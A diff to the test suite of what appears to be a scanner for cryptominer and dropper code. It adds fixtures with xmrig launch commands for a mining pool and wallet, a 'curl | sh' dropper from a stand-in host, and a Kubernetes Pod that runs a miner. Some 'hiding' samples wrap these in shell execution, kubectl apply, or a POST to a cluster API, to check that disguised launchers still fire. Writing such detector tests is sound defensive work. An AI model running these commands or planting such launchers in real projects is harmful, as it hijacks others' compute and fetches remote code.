@@ -223,6 +223,40 @@ def test_kill_list_alone_is_not_high(tmp_path: Path) -> None:
     assert at_most_low(found["cleanup.sh"])
 
 
+RUST_TESTS = (
+    "use detector::{score, Hook, Verdict};\n\n#[test]\nfn miner_postinstall_blocks() {\n"
+    f'    let hook = Hook {{ command: "./xmrig --url=stratum+tcp://{POOL}:3333 -u {XMR}"'
+    ".into() };\n"
+    "    assert_eq!(score(&hook), Verdict::Block);\n}\n"
+)
+JS_TESTS = (
+    "const { classify } = require('../src/classify');\n\n"
+    "const DROPPER = 'curl -s http://example.invalid/xmrig | sh';\n"
+    f"const MINER = './xmrig --url={POOL}:3333 --user={XMR} --donate-level=1';\n\n"
+    "describe('classify', () => {\n  it('flags a miner launch', () => {\n"
+    "    expect(classify(MINER)).toBe('miner');\n    expect(classify(DROPPER)).toBe('dropper');\n"
+    "  });\n});\n"
+)
+POD = (
+    "`apiVersion: v1\nkind: Pod\nmetadata:\n  name: compute-worker\nspec:\n  containers:\n"
+    "    - name: miner\n      image: xmrig/xmrig:latest\n"
+    f'      command: ["xmrig", "--url={POOL}:3333"]`'
+)
+# Each mention marker's adversarial twin: the same container with a way to run what it holds
+# (a dropper that adds `#[test]`, `describe(` or a template literal to hide) still fires.
+HIDING = {
+    "hide.rs": RUST_TESTS + '\nfn main() {\n    std::process::Command::new("sh")\n'
+    '        .args(["-c", "curl -s http://example.invalid/x | sh; '
+    f'./xmrig -o {POOL}:3333 -u {XMR}"])\n'
+    "        .spawn()\n        .unwrap();\n}\n",
+    "hide.test.js": JS_TESTS + "require('child_process').exec(`${DROPPER} && ${MINER}`);\n",
+    "deploy.ts": f"import {{ execSync }} from 'child_process';\nexport const POD = {POD};\n"
+    "execSync('kubectl apply -f -', { input: POD });\n",
+    "deploy_api.ts": f"export const POD = {POD};\n"
+    "fetch('https://198.51.100.7:6443/api/v1/namespaces/default/pods', "
+    "{ method: 'POST', body: POD });\n",
+}
+
 MENTIONS = {
     "miners.yar": "rule Miner_Launch {\n  strings:\n"
     f'    $a = "ExecStart=/opt/xmrig/xmrig --config=x"\n    $b = "-o {POOL}:3333 -u {XMR}"\n'
@@ -255,6 +289,13 @@ MENTIONS = {
     f'stratum+tcp://{POOL}:3333 -u RVN:{RVN}",\n\t\t\ttrue,\n\t\t}},\n',
     "test_detect.py": f'CASES = [\n    ("./xmrig -o {POOL}:3333 -u {XMR}", True),\n'
     '    ("ls -la", False),\n]\n',
+    # A detector's Rust tests: the command is a struct field, the test asserts a verdict.
+    "attacks.rs": RUST_TESTS,
+    # A detector's JavaScript tests: the command and a `curl | sh` are constants.
+    "detect.test.js": JS_TESTS,
+    # A scanner's demo data: a Pod quoted in a TypeScript template literal.
+    "scenarios.ts": "export const SCENARIOS = [\n  {\n    id: 'mining',\n"
+    f"    content: {POD},\n  }},\n];\n",
 }
 
 
@@ -285,6 +326,12 @@ LAUNCHERS = {
 def test_the_same_text_outside_a_mention_container_fires(name: str, tmp_path: Path) -> None:
     found = worst(write(tmp_path / "r", {name: LAUNCHERS[name]}))
     assert found[name] in ("high", "critical")
+
+
+@pytest.mark.parametrize("name", sorted(HIDING))
+def test_a_mention_marker_does_not_excuse_a_file_that_runs_it(name: str, tmp_path: Path) -> None:
+    found = worst(write(tmp_path / "h", {name: HIDING[name]}))
+    assert not at_most_low(found[name])
 
 
 def test_a_copy_of_irkits_own_pack_is_never_a_finding(tmp_path: Path) -> None:
